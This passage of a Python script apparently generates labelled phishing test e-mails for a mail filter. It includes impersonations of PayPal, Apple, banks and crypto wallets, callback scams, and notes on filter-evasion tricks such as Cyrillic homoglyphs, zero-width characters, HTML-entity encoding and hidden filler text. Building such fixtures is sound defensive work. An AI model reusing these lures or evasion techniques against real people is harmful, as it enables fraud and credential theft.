             "and delivery time.\n\nAwaiting your prompt response.\n\nBest Regards,\nMohammed Irfan\nProcurement Dept.\n"
             "Al Khaleej Trading & General Contracting LLC\nDubai, U.A.E\n")
    P("b6-purchase-order-pdf-s3",
      "unsolicited 'purchase order' to a radio club (SPF none, no DKIM); the PDF holds no order, only a REVIEW DOCUMENT link annotation to an S3 bucket page",
      rcpt=INFO, when=when, frm=addr("Procurement Dept.", "purchasing@alkhaleej-trdg.com"),
      subject="New Purchase Order PO#4500187211", spf="none",
      body=mixed(text(plain), [attachment("application/pdf", "PO_4500187211.pdf", pdf)], "outlook", "p20"),
      mailfrom="purchasing@alkhaleej-trdg.com", client=("mail.alkhaleej-trdg.com", "5.181.80.244", "mail.alkhaleej-trdg.com"),
      spam=(3.8, "RDNS_NONE,SPF_HELO_NONE,SPF_NONE,T_PDF_ATTACH,MISSING_MID_DOMAIN_HINT"),
      extra=["X-Mailer: Microsoft Outlook 16.0"])

    # 21: SWIFT copy PDF, notion.site, Yahoo sender -------------------------
    when = dt(2022, 10, 3, 3, 26, 48, 8)
    url = "https://hsutrading.notion.site/SWIFT-MT103-Payment-Copy-8f2c1d7a94b34e1f9d0a6b5c2e8f7a13"
    pdf = files.pdf(["MT103 SWIFT COPY", "Ordering customer: HSU TRADING CO., LTD", "Value date: 2022-10-03",
                     "Amount: USD 18,450.00", "", "Secure view required. Click below."],
                    link=(url, (56, 540, 280, 580)), title="SWIFT COPY MT103")
    plain = ("Hello,\n\nAs instructed by our management, we have made payment to your account. Find the attached SWIFT copy "
             "and confirm to us once you receive the funds.\n\nThanks & Regards\nLinda Hsu\nHSU TRADING CO., LTD\n")
    P("b6-swift-copy-pdf-notion",
      "'SWIFT copy' of a payment nobody expected, from a free yahoo.com address (auth passes for yahoo.com); the PDF's only action is a link to a notion.site page",
      rcpt=JAN, when=when, frm=addr("Linda Hsu", "accounts.hsutrading@yahoo.com"),
      subject="RE: SWIFT COPY - MT103 payment confirmation", to="undisclosed-recipients:;",
      body=mixed(text(plain), [attachment("application/pdf", "SWIFT_COPY_MT103_03102022.pdf", pdf)], "java", "p21"),
      mailfrom="accounts.hsutrading@yahoo.com", client=("sonic311-21.consmr.mail.ne1.yahoo.com", "66.163.187.148", "sonic311-21.consmr.mail.ne1.yahoo.com"),
      dkim=[("pass", "yahoo.com", "s2048")],
      spam=(2.3, "DKIM_SIGNED,DKIM_VALID,DKIM_VALID_AU,FREEMAIL_FROM,SPF_HELO_NONE,SPF_PASS,T_PDF_ATTACH"),
      extra=["X-Mailer: WebService/1.1.20702 YMailNorrin"])

    # 22: Invoice PDF, typedream.app, onmicrosoft trial tenant -------------
    when = dt(2023, 9, 19, 14, 58, 6, -4)
    url = "https://quickbooks-inv88213.typedream.app/"
    pdf = files.pdf(["Intuit QuickBooks", "INVOICE #INV-88213", "Amount due: $2,916.40", "Status: OVERDUE",
                     "", "Your invoice is ready. Use the button to review and pay online."],
                    link=(url, (56, 540, 280, 580)), title="INV-88213")
    html = notice("QuickBooks", "#2ca01c", "Invoice INV-88213 is overdue",
                  ["Dear Customer,", "Your invoice INV-88213 for <b>$2,916.40</b> is now 14 days overdue.",
                   "Please review the attached invoice and arrange payment to avoid a late fee."],
                  None, "Intuit QuickBooks &middot; 2700 Coast Ave, Mountain View, CA 94043")
    P("b6-invoice-overdue-pdf-typedream",
      "QuickBooks 'overdue invoice' sent from a free onmicrosoft.com trial tenant (passes for that tenant, nothing from Intuit); the PDF's button links to a typedream.app page",
      rcpt=TREAS, when=when, frm=addr("Intuit QuickBooks", "quickbooks@tcx81k.onmicrosoft.com"),
      subject="Reminder: Invoice INV-88213 is overdue",
      body=mixed(html_only(html), [attachment("application/pdf", "INV-88213.pdf", pdf)], "outlook", "p22"),
      mailfrom="quickbooks@tcx81k.onmicrosoft.com",
      client=("mail-dm6nam10on2070.outbound.protection.outlook.com", "40.107.93.70", "NAM10-DM6-obe.outbound.protection.outlook.com"),
      dkim=[("pass", "tcx81k.onmicrosoft.com", "selector1-tcx81k-onmicrosoft-com")],
      spam=(2.0, "ARC_SIGNED,ARC_VALID,DKIM_SIGNED,DKIM_VALID,DKIM_VALID_AU,HTML_MESSAGE,SPF_HELO_PASS,SPF_PASS,T_PDF_ATTACH"))


def phishing_brands() -> None:
    # 23: PayPal with Cyrillic homoglyphs ---------------------------------
    when = dt(2022, 4, 12, 4, 9, 37, 0)
    url = "https://www.bluewatermarine-fl.com/wp-admin/includes/pp/resolution/?cmd=_login&acct=" + b64(DAVE)
    brand = cyr("PayPal")
    html = notice(
        brand, "#003087", cyr("Your account access has been limited"),
        ["Hello dave@oldmillradio.org,",
         cyr("We noticed some unusual activity on your account and have temporarily limited what you can do with it."),
         cyr("To restore full access, please confirm your information within 48 hours. Otherwise your account will be permanently closed."),
         "Case ID: PP-L-483-915-227"],
        (cyr("Resolve now"), url),
        cyr("Copyright 1999-2022 PayPal. All rights reserved.") + " PayPal (Europe) S.&agrave; r.l. et Cie, S.C.A.")
    P("b6-paypal-limited-cyrillic-homoglyphs",
      "'PayPal' spelled with Cyrillic а/Р in the display name, subject and body (homoglyphs defeat brand-name matching), sent by a VPS with no DKIM; 'Resolve now' goes to a compromised WordPress site with the base64 address in the query",
      rcpt=DAVE, when=when, frm=addr(cyr("PayPal Service"), "service@intl-resolution-center.com"),
      subject=cyr("Your PayPal account has been limited") + " [Case PP-L-483-915-227]", body=html_only(html),
      mailfrom="service@intl-resolution-center.com", client=("unknown", "91.215.85.147", "intl-resolution-center.com"),
      spam=(3.9, "HTML_MESSAGE,MIME_HTML_ONLY,RDNS_NONE,SPF_HELO_PASS,SPF_PASS,T_MIXED_ES,UNICODE_ALPHA_MIX"))

    # 24: Amazon, weebly ---------------------------------------------------
    when = dt(2022, 8, 30, 17, 20, 2, -4)
    url = "https://amazon-account-center-review.weebly.com/"
    html = notice(
        "amazon", "#ff9900", "Your order has been suspended",
        ["Hello Sue,",
         "We were unable to validate the billing information for your recent order <b>#114-3928815-7720249</b> "
         "(Apple AirPods Pro, $249.00). Your order and your account have been placed on hold.",
         "Please update your billing details within 24 hours to avoid cancellation."],
        ("Update billing information", url),
        "&copy; 2022 Amazon.com, Inc. or its affiliates. All rights reserved. Amazon.com, 410 Terry Avenue N., Seattle, WA 98109-5210.",
        logo='<span style="font-size:26px;font-weight:bold;color:#232f3e">amazon</span>')
    P("b6-amazon-order-suspended-weebly",
      "Amazon 'order suspended' from a SendGrid-relayed throwaway domain (no DMARC alignment with amazon.com); invented order number and billing threat; link to a weebly.com site",
      rcpt=SUE, when=when, frm=addr("Amazon.com", "account-update@amzn-orders-support.com"),
      subject="Action needed: your order #114-3928815-7720249 is on hold", body=html_only(html),
      mailfrom="bounces+4410237-aa1f-sue=wrenhollow.net@em4913.amzn-orders-support.com",
      client=("o2.ptr6371.amzn-orders-support.com", "167.89.41.23", "o2.ptr6371.amzn-orders-support.com"),
      dkim=[("pass", "amzn-orders-support.com", "s1"), ("pass", "sendgrid.info", "smtpapi")],
      spam=(2.7, "DKIM_SIGNED,DKIM_VALID,DKIM_VALID_AU,HTML_MESSAGE,MIME_HTML_ONLY,SPF_PASS,T_REMOTE_IMAGE"), to=SUE)

    # 25: Apple ID, wixsite ------------------------------------------------
    when = dt(2023, 4, 25, 22, 37, 14, 0)
    url = "https://appleidsupport8.wixsite.com/verify"
    html = notice(
        "Apple", "#0071e3", "Your Apple ID has been locked for security reasons",
        ["Dear Customer,",
         "Your Apple ID (dave@oldmillradio.org) was used to sign in to iCloud on an unknown device "
         "(iPhone 14, Lagos, Nigeria).",
         "For your protection your Apple ID has been locked. To unlock it, verify your identity."],
        ("Unlock Apple ID", url),
        "Apple ID | Support | Privacy Policy<br>Copyright &copy; 2023 Apple Distribution International Ltd. All rights reserved.",
        logo='<span style="font-size:26px;color:#111">&#63743;</span>', font="-apple-system, Helvetica Neue, Arial, sans-serif")
    P("b6-apple-id-locked-wixsite",
      "Apple ID 'locked' scare (sign-in from Lagos) from a compromised hotel mailbox on a shared host, no Apple infrastructure; 'Unlock Apple ID' goes to a wixsite.com page",
      rcpt=DAVE, when=when, frm=addr("Apple Support", "reservations@hotelmiradorpuebla.mx"),
      subject="Your Apple ID has been locked [Ref: 3F9-A2C]", body=html_only(html),
      mailfrom="reservations@hotelmiradorpuebla.mx", client=("mail.hotelmiradorpuebla.mx", "187.141.70.20", "mail.hotelmiradorpuebla.mx"),
      spam=(3.0, "HTML_MESSAGE,MIME_HTML_ONLY,SPF_HELO_NONE,SPF_PASS,T_REMOTE_IMAGE,FROM_NAME_APPLE"))

    # 26: Netflix, square.site --------------------------------------------
    when = dt(2024, 1, 9, 6, 14, 55, 0)
    url = "https://netflix-billing-update.square.site/"
    html = notice(
        "NETFLIX", "#e50914", "Your membership is on hold",
        ["Hi Sue,", "We're having some trouble with your current billing information. We'll try again, but in the "
         "meantime you may want to update your payment details.",
         "If your details are not updated within 48 hours your membership will be cancelled."],
        ("UPDATE ACCOUNT", url),
        "Questions? Call 0800-096-6379<br>Netflix International B.V.",
        logo='<span style="font-size:28px;font-weight:bold;color:#e50914;letter-spacing:1px">NETFLIX</span>')
    P("b6-netflix-payment-hold-square-site",
      "Netflix 'membership on hold' from a throwaway domain via a VPS (SPF pass for itself, no DKIM); 'update account' link to a square.site page",
      rcpt=SUE, when=when, frm=addr("Netflix", "info@nflx-members-billing.com"),
      subject="Your Netflix membership is on hold - update your payment", body=html_only(html),
      mailfrom="info@nflx-members-billing.com", client=("vps-7c1a2b.nflx-members-billing.com", "45.88.67.134", "vps-7c1a2b.nflx-members-billing.com"),
      spam=(3.4, "HTML_MESSAGE,MIME_HTML_ONLY,SPF_HELO_PASS,SPF_PASS,T_REMOTE_IMAGE"), to=SUE)

    # 27: Microsoft account, zero-width characters -------------------------
    when = dt(2024, 5, 14, 1, 3, 27, 0)
    url = "https://lakesidedentalcare-tx.com/.well-known/acme/msa/signin.php?e=" + DAVE
    m, u, a = zw("Microsoft"), zw("unusual"), zw("account")
    html = notice(
        f"{m} account", "#0067b8", f"{u.capitalize()} sign-in activity",
        [f"We detected something {u} about a recent sign-in to the {m} {a} <b>da***@oldmillradio.org</b>.",
         "<b>Sign-in details</b><br>Country/region: Russia/Moscow<br>IP address: 95.142.46.35<br>Date: 14/05/2024 1:02 AM (GMT)<br>"
         "Platform: Windows<br>Browser: Firefox",
         f"If this wasn't you, please review your recent activity and secure your {a} immediately."],
        ("Review recent activity", url),
        f"Thanks,<br>The {m} {a} team<br><br>{m} Corporation, One {m} Way, Redmond, WA 98052")
    plain = (f"{m} {a}\n\n{u.capitalize()} sign-in activity\n\nWe detected something {u} about a recent sign-in to the {m} {a} "
             f"da***@oldmillradio.org.\n\nCountry/region: Russia/Moscow\nIP address: 95.142.46.35\n\nReview recent activity: {url}\n")
    P("b6-microsoft-unusual-signin-zero-width",
      "copy of Microsoft's 'unusual sign-in activity' mail with zero-width spaces inside 'Microsoft', 'unusual' and 'account' (defeats keyword rules), sent through Amazon SES with only amazonses.com DKIM; link to a compromised dental site, not account.live.com",
      rcpt=DAVE, when=when, frm=addr(f"{m} account team", "no-reply@account-security-msft.com"),
      subject=f"{m} {a} {u} sign-in activity",
      body=alt(plain, html, "ses", "p27"),
      mailfrom="0100018f74c1a2b3-5d6e7f80-91a2-4b3c-8d4e-5f6a7b8c9d0e-000000@amazonses.com",
      client=("a48-112.smtp-out.amazonses.com", "54.240.48.112", "a48-112.smtp-out.amazonses.com"),
      dkim=[("pass", "amazonses.com", "224i4yxa5dv7c2xz3womw6peuasteono")],
      spam=(2.5, "DKIM_SIGNED,DKIM_VALID,HTML_MESSAGE,SPF_HELO_NONE,SPF_PASS,T_REMOTE_IMAGE"))

    # 28: Norton renewal callback, PDF invoice, gmail ----------------------
    when = dt(2023, 6, 2, 19, 44, 10, -5)
    g = fix(gmail("billing.desk.nortonteam@gmail.com", when, "p28"), DAVE)
    phone = "+1 (844) 555-0131"
    pdf = files.pdf(["NortonLifeLock Inc.  -  INVOICE", "", "Invoice No: NLK-8821-0937", "Date: 02 June 2023",
                     "Customer: dave@oldmillradio.org", "", "Product: Norton 360 Deluxe (5 Devices) - 3 Years",
                     "Payment method: Auto debit", "Total: USD 349.99", "",
                     f"If you did not authorise this renewal, call our billing desk within 24 hours: {phone}",
                     "Refunds are only possible by phone."], title="Invoice NLK-8821-0937")
    plain = ("Dear Customer,\n\nThank you for renewing your Norton 360 Deluxe subscription. Your account has been charged "
             "USD 349.99 and the subscription will be active for 3 years.\n\nInvoice No: NLK-8821-0937\n"
             "Product: Norton 360 Deluxe (5 devices)\nAmount: USD 349.99\n\n"
             f"If you wish to cancel the renewal and get a refund, please call us within 24 hours at {phone}.\n\n"
             "Regards,\nBilling Department\n")
    P("b6-norton-renewal-callback-pdf-gmail",
      "callback scam: Norton 'renewal' of $349.99 from a gmail.com address, no link at all, only a phone number in the body and in the attached PDF 'invoice' (call to 'cancel' leads to remote access and refund fraud)",
      rcpt=DAVE, when=when, frm=addr("Norton Billing", "billing.desk.nortonteam@gmail.com"),
      subject="Your Order Confirmation #NLK-8821-0937", to="undisclosed-recipients:;",
      body=mixed(Multi("alternative", boundary("gmail", "p28a"), [text(plain), text(
          "<div dir=\"ltr\">" + plain.replace("\n\n", "</div><div><br></div><div>").replace("\n", "<br>") + "</div>\n", "html")]),
          [attachment("application/pdf", "Invoice_NLK-8821-0937.pdf", pdf)], "gmail", "p28"),
      spam=(2.9, "DKIM_SIGNED,DKIM_VALID,DKIM_VALID_AU,FREEMAIL_FROM,HTML_MESSAGE,SPF_PASS,T_PDF_ATTACH,PHONE_NUMBER_ONLY"), **g)

    # 29: Geek Squad, plain text, phone only ------------------------------
    when = dt(2022, 2, 15, 13, 7, 41, -6)
    g = fix(gmail("geeksquad.renewal.dept@gmail.com", when, "p29"), SUE)
    plain = ("Hello Customer,\n\nYour Geek Squad Total Tech Support membership has been renewed successfully.\n\n"
             "Order Number : GS-472991863\nDate : 02/15/2022\nPlan : Total Tech Support (1 Year)\nAmount : $299.99\n"
             "Payment : Charged to card on file\n\nThe amount will appear on your statement within 24-48 hours.\n\n"
             "If you didn't request this renewal or want to cancel, contact our billing team at +1 (888) 555-0162 "
             "(Mon-Sat, 9AM-8PM).\n\nThank you for choosing Geek Squad.\nGeek Squad Billing\n")
    P("b6-geek-squad-renewal-callback-plain",
      "plain-text Geek Squad 'renewal' of $299.99 from a gmail.com address, no link, only a callback number to 'cancel': classic telephone-oriented scam",
      rcpt=SUE, when=when, frm=addr("Geek Squad", "geeksquad.renewal.dept@gmail.com"),
      subject="Thank you for renewal - Order GS-472991863", to="undisclosed-recipients:;",
      body=text(plain, encoding="7bit"),
      spam=(1.7, "DKIM_SIGNED,DKIM_VALID,DKIM_VALID_AU,FREEMAIL_FROM,SPF_PASS,PHONE_NUMBER_ONLY"), **g)

    # 30: McAfee, HTML table, outlook.com ---------------------------------
    when = dt(2025, 3, 11, 18, 30, 59, -5)
    o = outlook_consumer("mcafee_order_desk@outlook.com", when, "p30")
    html = f"""<html><body style="font-family:Arial,sans-serif;font-size:14px;color:#222">
<p><b style="color:#c01818;font-size:22px">McAfee</b> <span style="color:#777">| Total Protection</span></p>
<p>Dear Member,</p><p>Your McAfee Total Protection subscription has been auto-renewed today. Details of your order:</p>
<table cellpadding="6" cellspacing="0" border="1" style="border-collapse:collapse;border-color:#ccc">
<tr><td>Invoice ID</td><td>MCF-25-0311-7732</td></tr><tr><td>Product</td><td>McAfee Total Protection - 10 devices</td></tr>
<tr><td>Term</td><td>2 Years</td></tr><tr><td>Amount</td><td><b>$419.99</b></td></tr><tr><td>Payment</td><td>Auto debit</td></tr></table>
<p>For any query or cancellation please reach our helpline: <b style="font-size:17px">+1 (855) 555-0118</b></p>
<p>Regards,<br>McAfee Billing Support</p></body></html>
"""
    P("b6-mcafee-renewal-callback-outlook",
      "McAfee auto-renewal 'invoice' of $419.99 in an HTML table from a free outlook.com address, sent to undisclosed recipients; no link, just a helpline number (callback scam)",
      rcpt=INFO, when=when, frm=addr("McAfee Billing", "mcafee_order_desk@outlook.com"),
      subject="McAfee Renewal Invoice MCF-25-0311-7732", to="undisclosed-recipients:;", body=html_only(html),
      spam=(2.2, "DKIM_SIGNED,DKIM_VALID,DKIM_VALID_AU,FREEMAIL_FROM,HTML_MESSAGE,MIME_HTML_ONLY,SPF_PASS"), **o)

    # 31: Coinbase, vercel.app ---------------------------------------------
    when = dt(2025, 5, 20, 3, 48, 22, 0)
    url = "https://coinbase-secure-review.vercel.app/session?case=CB-99412&m=" + b64(DAVE)
    html = notice(
        "coinbase", "#0052ff", "Withdrawal request: 0.4182 BTC",
        ["A withdrawal of <b>0.4182 BTC</b> (&asymp; $44,310.07) to the address <code>bc1q9h7...xk2d</code> was requested from your account.",
         "If you made this request, no action is needed. If you did <b>not</b>, cancel it immediately and secure your account. "
         "Pending withdrawals are released automatically after 2 hours."],
        ("Cancel withdrawal", url), "Coinbase &middot; 248 3rd St #434, Oakland, CA 94607 &middot; Case CB-99412",
        logo='<span style="font-size:26px;font-weight:bold;color:#0052ff">coinbase</span>')
    P("b6-coinbase-withdrawal-vercel-app",
      "Coinbase 'withdrawal request' panic lure from a throwaway domain (no DMARC relation to coinbase.com); 'Cancel withdrawal' leads to a vercel.app page with the base64 address",
      rcpt=DAVE, when=when, frm=addr("Coinbase", "no-reply@coinbase-alerts-center.com"),
      subject="Withdrawal request of 0.4182 BTC - action required", body=html_only(html),
      mailfrom="no-reply@coinbase-alerts-center.com", client=("mail.coinbase-alerts-center.com", "194.26.192.64", "mail.coinbase-alerts-center.com"),
      dkim=[("pass", "coinbase-alerts-center.com", "dkim")],
      spam=(2.1, "DKIM_SIGNED,DKIM_VALID,DKIM_VALID_AU,HTML_MESSAGE,MIME_HTML_ONLY,SPF_PASS"))

    # 32: MetaMask, netlify.app -------------------------------------------
    when = dt(2022, 9, 28, 12, 1, 19, 0)
    url = "https://metamask-wallet-verify.netlify.app/"
    html = notice(
        "MetaMask", "#f6851b", "Wallet verification required",
        ["Dear MetaMask user,",
         "Due to new regulations (KYC), all wallets must be verified before <b>October 3, 2022</b>. "
         "Unverified wallets will be restricted and assets may be lost.",
         "Verification only requires your Secret Recovery Phrase and takes less than 2 minutes."],
        ("Verify my wallet", url), "&copy; 2022 MetaMask &middot; ConsenSys Software Inc.")
    P("b6-metamask-kyc-seed-phrase-netlify",
      "MetaMask 'KYC verification' that asks for the Secret Recovery Phrase (MetaMask has no e-mail KYC and never asks for it); from a hacked WordPress host; link to a netlify.app page",
      rcpt=DAVE, when=when, frm=addr("MetaMask", "wordpress@villa-casalta.it"),
      subject="Important: MetaMask wallet verification required by October 3", body=html_only(html),
      mailfrom="wordpress@villa-casalta.it", client=("host4.sitehub-eu.net", "176.31.233.72", "host4.sitehub-eu.net"),
      spam=(3.2, "HTML_MESSAGE,MIME_HTML_ONLY,SPF_HELO_NONE,SPF_PASS,T_REMOTE_IMAGE"), extra=[PHPMAILER])

    # 33: Trust Wallet, glitch.me -----------------------------------------
    when = dt(2023, 10, 24, 20, 19, 33, 0)
    url = "https://trustwallet-restore.glitch.me/"
    plain = ("Trust Wallet\n\nYour wallet has been suspended due to an incomplete security update.\n\n"
             "To avoid permanent loss of your funds, please restore your wallet by entering your 12-word recovery phrase:\n"
             f"{url}\n\nTrust Wallet Security Team\n")
    html = notice("Trust Wallet", "#3375bb", "Your wallet has been suspended",
                  ["Your wallet has been suspended due to an incomplete security update.",
                   "To avoid permanent loss of your funds, restore your wallet with your 12-word recovery phrase."],
                  ("Restore wallet", url), "Trust Wallet Security Team")
    P("b6-trust-wallet-suspended-glitch",
      "Trust Wallet 'suspended wallet' asking for the 12-word recovery phrase (a self-custody wallet has no account to suspend); throwaway sender; link to glitch.me",
      rcpt=INFO, when=when, frm=addr("Trust Wallet", "support@trustwallet-secure.app"),
      subject="Your Trust Wallet has been suspended", body=alt(plain, html, "php", "p33"),
      mailfrom="support@trustwallet-secure.app", client=("mx.trustwallet-secure.app", "147.45.47.90", "mx.trustwallet-secure.app"),
      spam=(3.5, "HTML_MESSAGE,SPF_HELO_NONE,SPF_PASS,T_REMOTE_IMAGE"))

    # 34: Binance, github.io -----------------------------------------------
    when = dt(2024, 12, 3, 8, 40, 1, 0)
    url = "https://binance-security-center.github.io/verify/?uid=" + b64(DAVE)
    html = notice(
        "BINANCE", "#f0b90b", "[Binance] Withdrawal Address Whitelisted",
        ["A new withdrawal address has been added to your whitelist:",
         "<b>Coin:</b> USDT (TRC20)<br><b>Address:</b> TQ8yZ2k...N4mGv<br><b>Time:</b> 2024-12-03 08:39:12 (UTC)",
         "If this activity is not your own operation, please disable your account immediately."],
        ("Disable account", url), "Binance &copy; 2024 &middot; This is an automated message, please do not reply.",
        logo='<span style="font-size:24px;font-weight:bold;color:#f0b90b">BINANCE</span>')
    P("b6-binance-whitelist-github-io",
      "Binance 'withdrawal address whitelisted' alert from a throwaway domain; 'Disable account' goes to a github.io page run by the phisher (github.io itself is not a Binance domain)",
      rcpt=DAVE, when=when, frm=addr("Binance", "do-not-reply@binance-notice-mail.com"),
      subject="[Binance] Withdrawal Address Whitelisted - 2024-12-03 08:39:12 (UTC)", body=html_only(html),
      mailfrom="do-not-reply@binance-notice-mail.com", client=("smtp.binance-notice-mail.com", "38.180.20.116", "smtp.binance-notice-mail.com"),
      dkim=[("pass", "binance-notice-mail.com", "default")],
      spam=(1.5, "DKIM_SIGNED,DKIM_VALID,DKIM_VALID_AU,HTML_MESSAGE,MIME_HTML_ONLY,SPF_PASS"))


def phishing_banks() -> None:
    # 35: Wells Fargo, HTML entities for every letter ---------------------
    when = dt(2022, 1, 25, 23, 11, 46, -5)
    url = "https://www.ridgecrestautoglass.com/images/.wf/online/login.php"
    paras = [entities("Dear Customer,"),
             entities("We have detected a sign-in to your Wells Fargo Online account from an unrecognized device."),
             entities("For your security, online access has been temporarily suspended. Please verify your identity to restore access."),
             entities("Reference: WF-SEC-2201-77381")]
    html = notice(entities("WELLS FARGO"), "#d71e28", entities("Online Access Suspended"), paras,
                  (entities("Verify Identity"), url), entities("Wells Fargo Online Security. Please do not reply to this email."),
                  logo=f'<span style="font-size:22px;font-weight:bold;color:#d71e28">{entities("WELLS FARGO")}</span>')
    P("b6-wells-fargo-entity-encoded",
      "Wells Fargo 'online access suspended' where every letter of the body is written as an HTML numeric entity (&#87;&#101;...) so text rules see nothing; from a compromised host; link to a hacked auto-glass site",
      rcpt=DAVE, when=when, frm=addr("Wells Fargo Online", "alerts@wfonline-secure.com"),
      subject="Wells Fargo: Online access suspended", body=html_only(html),
      mailfrom="alerts@wfonline-secure.com", client=("unknown", "193.42.33.15", "wfonline-secure.com"),
      spam=(4.2, "HTML_MESSAGE,MIME_HTML_ONLY,RDNS_NONE,SPF_HELO_PASS,SPF_PASS,HTML_OBFUSCATE_05_10"))

    # 36: Chase, azurewebsites.net ----------------------------------------
    when = dt(2024, 3, 12, 10, 50, 5, -4)
    url = "https://chase-verify-online.azurewebsites.net/auth?session=" + hexs("p36", 24)
    html = notice("CHASE", "#117aca", "Your account has been locked",
                  ["Dear Valued Customer,",
                   "We have noticed several failed login attempts on your Chase Online&trade; account. For your protection we have locked your account.",
                   "To unlock, please confirm your identity. This takes about 3 minutes."],
                  ("Unlock account", url),
                  "JPMorgan Chase Bank, N.A. Member FDIC &copy; 2024 JPMorgan Chase &amp; Co.",
                  logo='<span style="font-size:24px;font-weight:bold;color:#117aca">CHASE &#9634;</span>')
    P("b6-chase-locked-azurewebsites",
      "Chase 'account locked' sent through a stolen Brevo/Sendinblue-style ESP account of an unrelated domain; link to an azurewebsites.net app, not chase.com",
      rcpt=SUE, when=when, frm=addr("Chase Online", "service@kidsplay-therapy.com"),
      subject="Chase Alert: Your account has been locked", body=html_only(html),
      mailfrom="kidsplay-therapy.com@a1b2c3.sendibm3.com", client=("smtp-relay-out-7.sendibm3.com", "77.32.148.27", "smtp-relay-out-7.sendibm3.com"),
      dkim=[("pass", "sendibm3.com", "mail")],
      spam=(2.4, "DKIM_SIGNED,DKIM_VALID,HEADER_FROM_DIFFERENT_DOMAINS,HTML_MESSAGE,MIME_HTML_ONLY,SPF_PASS"), to=SUE)

    # 37: Bank of America, image only --------------------------------------
    when = dt(2023, 12, 5, 15, 27, 49, -5)
    url = "https://bofa-alerts-secure.weeblysite.com/"
    png = png_text(["Bank of America", "Important: Unusual activity detected",
                    "We have temporarily restricted your Online Banking", "access. Tap here to verify your identity.",
                    "", ">> VERIFY NOW"], size=(560, 260), band=(1, 33, 105))
    html = (f'<html><body style="margin:0"><center><a href="{url}"><img src="cid:bofa-1205@mail" width="560" height="260" '
            f'alt="" border="0"></a></center></body></html>\n')
    body = Multi("related", boundary("java", "p37"), [html_only(html),
                 attachment("image/png", "image001.png", png, inline=True, cid="bofa-1205@mail")])
    P("b6-bank-of-america-image-only",
      "Bank of America alert whose body is only an inline PNG of text wrapped in one link (nothing for text analysis); From a free mail.com-style throwaway; link to a weeblysite.com page",
      rcpt=DAVE, when=when, frm=addr("Bank of America", "onlinebanking.alert@usa.com"),
      subject="Unusual activity detected on your account", body=body,
      mailfrom="onlinebanking.alert@usa.com", client=("mout.gmx.com", "74.208.4.200", "mout.gmx.com"),
      dkim=[("pass", "usa.com", "s1089575")],
      spam=(2.8, "DKIM_SIGNED,DKIM_VALID,DKIM_VALID_AU,FREEMAIL_FROM,HTML_IMAGE_ONLY_08,HTML_MESSAGE,MIME_HTML_ONLY,SPF_PASS"))

    # 38: USAA, Google Forms ----------------------------------------------
    when = dt(2024, 7, 23, 11, 2, 37, -5)
    g = fix(gmail("usaa.memberservices.desk@gmail.com", when, "p38"), DAVE)
    url = "https://docs.google.com/forms/d/e/1FAIpQLSfX8k2Lq9vT4rN7wP3yZ6bC1dE5gH8jK0mN2pQ4sU7vW9xY1a/viewform?usp=sf_link"
    plain = ("USAA Member Services\n\nDear Member,\n\nWe are updating our records. To avoid interruption of your USAA "
             f"membership benefits, please complete the member verification form below by July 26, 2024:\n\n{url}\n\n"
             "You will need your Online ID, password and PIN.\n\nThank you for your service.\nUSAA Member Services\n")
    html = ('<div dir="ltr"><p><b>USAA Member Services</b></p><p>Dear Member,</p><p>We are updating our records. To avoid interruption '
            'of your USAA membership benefits, please complete the member verification form below by July 26, 2024:</p>'
            f'<p><a href="{url}">Member Verification Form</a></p><p>You will need your Online ID, password and PIN.</p>'
            '<p>Thank you for your service.<br>USAA Member Services</p></div>\n')
    P("b6-usaa-verification-google-forms",
      "USAA 'member verification' from a gmail.com address (auth passes for gmail) asking for Online ID, password and PIN in a docs.google.com/forms form",
      rcpt=DAVE, when=when, frm=addr("USAA Member Services", "usaa.memberservices.desk@gmail.com"),
      subject="USAA: Member verification required", body=alt(plain, html, "gmail", "p38"),
      spam=(1.5, "DKIM_SIGNED,DKIM_VALID,DKIM_VALID_AU,FREEMAIL_FROM,HTML_MESSAGE,SPF_PASS"), **g)

    # 39: Barclays, hidden filler text -------------------------------------
    when = dt(2025, 2, 4, 8, 15, 28, 0)
    url = "https://barclays-review.co-uk-secure.support/review?ref=BRC5529017"
    filler = ('<div style="font-size:0px;color:#ffffff;line-height:0;max-height:0;overflow:hidden">'
              "The quarterly garden club meeting will be held in the village hall. Please bring your seed catalogues "
              "and a plate for the shared tea. Minutes of the last meeting were approved without changes. "
              "Weather permitting, the spring walk starts at the church gate at ten o'clock.</div>")
    html = notice("Barclays", "#00aeef", "Security review of your account",
                  ["Dear Customer,", filler + "As part of our regular security review, we need you to confirm a few details. "
                   "Until then some features of Online Banking will be unavailable.",
                   filler + "Please complete the review today.", "Reference: BRC5529017"],
                  ("Start review", url), "Barclays Bank UK PLC. Authorised by the Prudential Regulation Authority.")
    P("b6-barclays-security-review-hidden-filler",
      "Barclays 'security review' padded with invisible (font-size:0, white) garden-club text to dilute content scoring; link to a look-alike '.co-uk-secure.support' domain",
      rcpt=JAN, when=when, frm=addr("Barclays", "noreply@barclays-securemsg.co.uk"),
      subject="Barclays: Please complete your security review", body=html_only(html),
      mailfrom="noreply@barclays-securemsg.co.uk", client=("mail.barclays-securemsg.co.uk", "185.196.9.31", "mail.barclays-securemsg.co.uk"),
      dkim=[("pass", "barclays-securemsg.co.uk", "default")],
      spam=(2.0, "DKIM_SIGNED,DKIM_VALID,DKIM_VALID_AU,HTML_FONT_SIZE_NONE,HTML_MESSAGE,MIME_HTML_ONLY,SPF_PASS"))


def phishing_parcels_gov_tricks() -> None:
    # 40: USPS redelivery fee ---------------------------------------------
    when = dt(2023, 11, 28, 16, 2, 11, -5)
    url = "https://usps-redelivery-fee.pages.dev/track?id=9400111899223847560392"
    html = notice("USPS", "#333366", "Your package could not be delivered",
                  ["Tracking number: <b>9400 1118 9922 3847 5603 92</b>",
                   "Our courier was unable to deliver your package because the address information was incomplete.",
                   "Please confirm your address and pay the redelivery fee of <b>$1.99</b> within 48 hours, otherwise the package will be returned to the sender."],
                  ("Schedule redelivery", url), "United States Postal Service &middot; This is an automated message.",
                  logo='<span style="font-size:24px;font-weight:bold;color:#333366">USPS &#9993;</span>')
    P("b6-usps-redelivery-fee-pages-dev",
      "USPS 'undeliverable package' asking for a $1.99 fee (card harvesting) from a throwaway domain; link to a pages.dev site, not usps.com",
      rcpt=SUE, when=when, frm=addr("USPS Delivery", "tracking@usps-parcelinfo.com"),
      subject="USPS: Delivery attempt failed - action required", body=html_only(html),
      mailfrom="tracking@usps-parcelinfo.com", client=("srv1.usps-parcelinfo.com", "212.113.106.55", "srv1.usps-parcelinfo.com"),
      spam=(3.3, "HTML_MESSAGE,MIME_HTML_ONLY,SPF_HELO_NONE,SPF_PASS,T_REMOTE_IMAGE"), to=SUE)

